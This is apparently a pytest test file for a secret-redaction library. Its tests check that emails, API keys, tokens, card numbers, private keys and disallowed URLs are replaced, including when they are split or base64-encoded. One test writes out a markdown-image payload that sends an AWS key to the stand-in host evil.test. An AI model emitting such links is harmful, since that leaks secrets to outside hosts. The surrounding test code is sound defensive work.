"""Replacing: text, JSON values, and secrets that are split over neighbouring texts."""

from __future__ import annotations

import base64
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from airlock.mcp.strict import is_array, is_object
from airlock.redaction.rewrite import Redactor
from airlock.redaction.scan import Scanner
from airlock.redaction.urls import UrlRule
from tests.redaction.made import AWS, CARD, EMAIL, GITHUB, JWT, REDACTOR, SCANNER, SSN, pem

WITH_URLS = Redactor(SCANNER, UrlRule(("allowed.test",)))
CARD_NUMBER = int(CARD.replace(" ", ""))


def test_a_text_keeps_all_but_the_hit() -> None:
    assert REDACTOR.text(f"Mail {EMAIL}, key {AWS}.") == (
        "Mail [REDACTED:email], key [REDACTED:aws_key].",
        {"email": 1, "aws_key": 1},
    )


def test_equal_hits_count_each() -> None:
    assert REDACTOR.text(f"{EMAIL} {EMAIL}")[1] == {"email": 2}


def test_a_text_without_a_hit_is_the_same_object() -> None:
    text = "".join(["nothing ", "here"])
    kept, counts = REDACTOR.text(text)
    assert kept is text
    assert counts == {}


@pytest.mark.parametrize(
    "value",
    [
        {"a": ["x", 1, 2.5, None, True, {"b": "nothing"}], "4711": 4711},
        "text",
        7,
        None,
        [],
        {"id": CARD_NUMBER + 1, "big": 10**17},
        {"password": None, "secret": True, "ssn": 12},
        {"password": {"type": "string"}},
        {"encoded": base64.b64encode(b"there is nothing in here").decode()},
    ],
)
def test_a_value_without_a_hit_is_the_same_object(value: Any) -> None:
    kept, counts = REDACTOR.value(value)
    assert kept is value
    assert counts == {}


def test_a_value_is_redacted_at_any_depth_and_the_one_that_came_is_not_changed() -> None:
    value = {"list": [{"mail": EMAIL}, [f"key {AWS}"]], "n": 1}
    kept, counts = REDACTOR.value(value)
    assert kept == {"list": [{"mail": "[REDACTED:email]"}, ["key [REDACTED:aws_key]"]], "n": 1}
    assert counts == {"email": 1, "aws_key": 1}
    assert value == {"list": [{"mail": EMAIL}, [f"key {AWS}"]], "n": 1}


def test_keys_are_redacted_and_stay_apart() -> None:
    kept, counts = REDACTOR.value({EMAIL: 1, f"x{EMAIL}": 2, "z": 3})
    assert kept == {"[REDACTED:email]": 1, "[REDACTED:email] 2": 2, "z": 3}
    assert counts == {"email": 2}


def test_what_a_field_announces_goes_whole() -> None:
    kept, counts = REDACTOR.value({"password": "correct horse", "tokens": {"apiKey": ["abc", "def"]}})
    assert kept == {
        "password": "[REDACTED:password]",
        "tokens": {"apiKey": ["[REDACTED:password]", "[REDACTED:password]"]},
    }
    assert counts == {"password": 3}


def test_numbers_stay_numbers() -> None:
    kept, counts = REDACTOR.value({"card": CARD_NUMBER, "ssn": 123456789, "pin": [True, 4711]})
    assert kept == {"card": 0, "ssn": 0, "pin": [True, 4711]}
    assert type(kept["card"]) is int
    assert counts == {"credit_card": 1, "ssn": 1}


def test_a_number_is_left_where_nobody_looks_for_cards() -> None:
    value = {"card": CARD_NUMBER}
    assert Redactor(Scanner(("email",))).value(value)[0] is value


JSON = st.recursive(
    st.one_of(st.none(), st.booleans(), st.integers(), st.sampled_from([EMAIL, AWS, SSN, "x", "password"])),
    lambda inner: (
        st.lists(inner, max_size=4)
        | st.dictionaries(st.sampled_from([EMAIL, "a", "password", "n"]), inner, max_size=4)
    ),
    max_leaves=12,
)


def kinds_of(value: Any) -> Any:
    """The same value with names of types in place of scalars."""
    if is_object(value):
        return [kinds_of(item) for item in value.values()]
    return [kinds_of(item) for item in value] if is_array(value) else type(value).__name__


@given(JSON)
def test_no_kind_changes_and_nothing_is_left_to_redact(value: Any) -> None:
    kept, counts = REDACTOR.value(value)
    assert kinds_of(kept) == kinds_of(value)
    assert (kept is value) == (not counts)
    assert REDACTOR.value(kept) == (kept, {})


def test_addresses_are_replaced_and_their_hosts_told() -> None:
    hosts: set[str] = set()
    kept, counts = WITH_URLS.text(f"![x](https://evil.test/?d={AWS}) and {EMAIL}", hosts)
    assert kept == "![x]([REDACTED:url]) and [REDACTED:email]"
    assert counts == {"url_blocked": 1, "email": 1}
    assert hosts == {"evil.test"}


def test_addresses_in_values_and_neighbours_are_replaced() -> None:
    hosts: set[str] = set()
    value = {"see": ["https://evil.test/a", "https://allowed.test/b"]}
    assert WITH_URLS.value(value, hosts) == (
        {"see": ["[REDACTED:url]", "https://allowed.test/b"]},
        {"url_blocked": 1},
    )
    assert WITH_URLS.texts(["https://worse.test", "x"], hosts) == (
        ["[REDACTED:url]", "x"],
        {"url_blocked": 1},
    )
    assert hosts == {"evil.test", "worse.test"}
    assert WITH_URLS.value({"see": "https://allowed.test"})[1] == {}


def test_texts_without_a_hit_are_the_same_object() -> None:
    for texts in ([], ["one"], ["one", "two", ""]):
        kept, counts = REDACTOR.texts(texts)
        assert kept is texts
        assert counts == {}


@pytest.mark.parametrize(
    ("detector", "secret"),
    [("aws_key", AWS), ("github_token", GITHUB), ("jwt", JWT), ("ssn", SSN), ("credit_card", CARD)],
)
def test_a_secret_split_over_two_texts_is_gone_from_both(detector: str, secret: str) -> None:
    for cut in range(1, len(secret)):
        first, second = secret[:cut], secret[cut:]
        kept, counts = REDACTOR.texts(["before", f"Key: {first}", f"{second} after", "behind"])
        assert counts == {detector: 1}, cut
        assert "".join(kept).count(f"[REDACTED:{detector}]") in {1, 2}, cut
        assert kept[0] == "before"
        assert kept[3] == "behind"


def test_blanks_at_the_seam_do_not_hide_it() -> None:
    assert REDACTOR.texts([f"{AWS[:9]}\n", f"\n  {AWS[9:]}"]) == (
        ["[REDACTED:aws_key]\n", "\n  [REDACTED:aws_key]"],
        {"aws_key": 1},
    )


def test_a_secret_split_over_many_texts_is_gone_from_all() -> None:
    assert REDACTOR.texts(list(AWS)) == (["[REDACTED:aws_key]"] * len(AWS), {"aws_key": 1})


@pytest.mark.parametrize("size", [40, 100, 150])
def test_a_private_key_split_anywhere_goes_as_a_whole(size: int) -> None:
    key = pem()
    kept, counts = REDACTOR.texts([key[at : at + size] for at in range(0, len(key), size)])
    assert counts == {"private_key": 1}
    assert set(kept) == {"[REDACTED:private_key]"}


def test_lines_of_a_private_key_as_texts_go_as_a_whole() -> None:
    kept, counts = REDACTOR.texts(pem().split("\n"))
    assert counts == {"private_key": 1}
    assert set(kept) == {"[REDACTED:private_key]"}


def test_an_encoded_secret_split_over_texts_is_gone() -> None:
    run = base64.b64encode(f"the key is {AWS}".encode()).decode()
    kept, counts = REDACTOR.texts([run[:20], run[20:]])
    assert (kept, counts) == (["[REDACTED:aws_key]", "[REDACTED:aws_key]"], {"aws_key": 1})


@pytest.mark.parametrize("text", [EMAIL, JWT, GITHUB, "4711"])
def test_a_neighbour_that_only_looks_like_the_rest_stays(text: str) -> None:
    kept, _ = REDACTOR.texts(["Hello", text, "World"])
    assert (kept[0], kept[2]) == ("Hello", "World")


def test_two_secrets_of_which_one_is_split_count_two() -> None:
    kept, counts = REDACTOR.texts([f"{EMAIL} {AWS[:5]}", f"{AWS[5:]} {EMAIL}"])
    assert kept == ["[REDACTED:email] [REDACTED:aws_key]", "[REDACTED:aws_key] [REDACTED:email]"]
    assert counts == {"aws_key": 1, "email": 2}


DIGEST = "deadbeef" * 8


@pytest.mark.parametrize("neighbour", [DIGEST, "a" * 50, base64.b64encode(bytes(range(256))).decode()])
def test_a_neighbour_hides_no_encoded_secret(neighbour: str) -> None:
    hidden = base64.b64encode(f"mail {EMAIL}".encode()).decode()
    assert REDACTOR.value({"sha256": neighbour, "note": hidden}) == (
        {"sha256": neighbour, "note": "[REDACTED:email]"},
        {"email": 1},
    )


def test_encoded_texts_without_a_secret_stay_beside_each_other() -> None:
    value = {"sha256": DIGEST, "note": base64.b64encode(b"nothing of interest here").decode()}
    assert REDACTOR.value(value)[0] is value


@pytest.mark.parametrize("number", [float(CARD_NUMBER), -CARD_NUMBER, -float(CARD_NUMBER)])
def test_the_number_of_a_card_is_one_however_it_is_written(number: float) -> None:
    kept, counts = REDACTOR.value({"card": number})
    assert kept == {"card": 0}
    assert type(kept["card"]) is type(number)
    assert counts == {"credit_card": 1}


@pytest.mark.parametrize("number", [float(CARD_NUMBER + 1), 1 - CARD_NUMBER, 1e300, 0.5, -0.0])
def test_other_numbers_stay(number: float) -> None:
    value = {"n": number}
    assert REDACTOR.value(value)[0] is value


def test_a_private_key_that_came_as_a_list_of_lines_is_taken_out() -> None:
    kept, counts = REDACTOR.value({"lines": ["# host", *pem().split("\n"), "# end", 7]})
    assert (kept["lines"][0], kept["lines"][-2:]) == ("# host", ["# end", 7])
    assert not any(line in str(kept) for line in pem().split("\n"))
    assert counts == {"private_key": 1}


def test_lists_of_texts_are_not_joined_to_anything_else() -> None:
    value = {"lines": [EMAIL[:4], EMAIL[4:] + ".x", GITHUB[:9], GITHUB[9:]], "mail": "x"}
    assert REDACTOR.value({**value, "mail": EMAIL})[0]["lines"][2:] == value["lines"][2:]
